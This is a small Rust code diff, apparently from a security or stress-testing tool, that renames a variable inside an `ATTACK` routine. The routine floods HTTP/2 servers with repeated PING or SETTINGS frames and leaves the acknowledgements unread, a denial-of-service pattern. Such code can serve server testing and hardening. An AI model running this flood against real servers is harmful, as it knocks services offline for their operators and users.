@@ -18,11 +18,11 @@ pub(super) const ATTACK: Attack = Attack::new(
 async fn run(aim: Aim) {
     let client = async |aim: Aim, number: u64| {
         let mut http2 = Http2::connect(&aim, &[]).await?;
-        let one = match number % 2 {
+        let frame_bytes = match number % 2 {
             0 => frame(kind::PING, 0, 0, &[7; 8]),
             _ => frame(kind::SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
         };
-        let bytes = one.repeat(AT_ONCE);
+        let bytes = frame_bytes.repeat(AT_ONCE);
         let mut round = 0;
         while aim.goes_on(round) {
             // Acknowledgements are not read.
